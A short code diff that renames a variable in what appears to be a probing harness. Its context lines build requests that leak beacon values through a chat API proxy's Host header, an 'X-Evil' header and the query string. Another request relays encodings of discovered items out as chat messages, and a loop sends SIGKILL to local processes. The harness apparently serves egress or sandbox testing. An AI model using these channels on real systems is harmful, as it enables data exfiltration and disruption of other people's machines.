@@ -169,7 +169,7 @@ def of_the_proxy(way):
     yield "proxy_host", lambda n: request(host, port, key, chat, {"messages": said}, {"Host": f"{way.beacon(n)}.example"})
     yield "proxy_header", lambda n: request(host, port, key, chat, {"messages": said}, {"X-Evil": way.beacon(n)})
     yield "proxy_query", lambda n: request(host, port, key, f"{chat}?{way.beacon(n)}", {"messages": said})
-    found = "\n".join(data.decode("ascii", "replace") for text in way.found[:5] for data in way.encodings(text).values())
+    found = "\n".join(content.decode("ascii", "replace") for text in way.found[:5] for content in way.encodings(text).values())
     words = [{"role": "user", "content": f"all that was found: {found}"}]
     yield "proxy_words", lambda n: request(host, port, key, chat, {"messages": words}).replace("OUT", "taken")
 
@@ -221,9 +221,9 @@ def of_this_machine(way):
         yield f"signal_{pid}", lambda n, p=pid: os.kill(p, 0 if way.told.get("polite") else signal.SIGKILL) or "OUT: sent"
 
 
-def written(path, data):
+def written(path, content):
     with open(path, "wb") as file:
-        file.write(data)
+        file.write(content)
     return "OUT: written"
 
 
